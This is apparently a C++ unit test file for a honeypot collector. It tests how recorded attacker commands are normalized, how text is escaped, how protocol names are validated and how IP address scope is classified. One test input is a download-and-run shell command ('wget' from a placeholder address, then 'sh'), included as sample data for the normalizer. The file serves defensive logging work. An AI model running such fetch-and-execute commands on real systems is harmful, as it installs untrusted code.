#include "collector/ingest/text_values.hpp"

#include "common/net/address.hpp"

#include <gtest/gtest.h>
#include <string>

namespace apiary::collector {
namespace {

TEST(NormalizeCommandTest, PutsPlaceholdersForWhatVaries) {
    EXPECT_EQ(normalizeCommand("RETR", "file12.txt"), "RETR file<n>.txt");
    EXPECT_EQ(normalizeCommand("PORT", "192.0.2.1"), "PORT <ip>");
    EXPECT_EQ(normalizeCommand("ping", "2001:db8::1"), "ping <ip>");
    EXPECT_EQ(normalizeCommand("wget", "http://192.0.2.1/x; sh x"), "wget <url>; sh x");
    EXPECT_EQ(normalizeCommand("USER", "a\xff\x01z"), "USER a<bin>z");
    EXPECT_EQ(normalizeCommand("get", "0123456789abcdef0123456789abcdef"), "get <hex>");
}

TEST(NormalizeCommandTest, TakesABackslashBeforeAnXForWhatItIs) {
    EXPECT_EQ(normalizeCommand("USER", "\\x"), "USER \\\\x");
    EXPECT_EQ(normalizeCommand("USER", "\\x\x01"), "USER \\\\x<bin>");
    EXPECT_EQ(normalizeCommand("\\xab", ""), "\\\\xab");
}

TEST(NormalizeCommandTest, NeedsNoMoreRoomThanItsColumnHas) {
    EXPECT_LE(normalizeCommand(std::string(100, 'v'), std::string(100'000, '\\')).size(), 256U);
    EXPECT_LE(normalizeCommand("USER", std::string(100'000, '\xff')).size(), 256U);
}

TEST(PlainTextTest, EscapesWhatIsNotPrintableAndNeverCutsAnEscape) {
    EXPECT_EQ(plainText("plain \\ text", 100), "plain \\ text");
    EXPECT_EQ(plainText("plain", 3), "pla");
    EXPECT_EQ(plainText("a\xff", 100), "a\\xff");
    EXPECT_EQ(plainText("a\xff", 4), "a");
}

TEST(ProtocolNameTest, IsWhatTheDatabaseTakes) {
    EXPECT_TRUE(isProtocolName("ftp"));
    EXPECT_TRUE(isProtocolName("http2.0_x-y"));
    EXPECT_FALSE(isProtocolName(""));
    EXPECT_FALSE(isProtocolName("FTP"));
    EXPECT_FALSE(isProtocolName("f t p"));
    EXPECT_FALSE(isProtocolName(std::string(33, 'a')));
}

TEST(ScopeTest, TellsTheInternetFromWhatIsInside) {
    const auto scope = [](const char* text) { return scopeOf(*parseAddress(text)); };
    EXPECT_EQ(scope("8.8.8.8"), "internet");
    EXPECT_EQ(scope("10.1.2.3"), "private");
    EXPECT_EQ(scope("172.31.255.255"), "private");
    EXPECT_EQ(scope("172.32.0.0"), "internet");
    EXPECT_EQ(scope("192.168.0.1"), "private");
    EXPECT_EQ(scope("127.0.0.1"), "special");
    EXPECT_EQ(scope("224.0.0.1"), "special");
    EXPECT_EQ(scope("2600::1"), "internet");
    EXPECT_EQ(scope("fd00::1"), "private");
    EXPECT_EQ(scope("fe80::1"), "special");
    EXPECT_EQ(scope("::1"), "special");
}

}  // namespace
}  // namespace apiary::collector
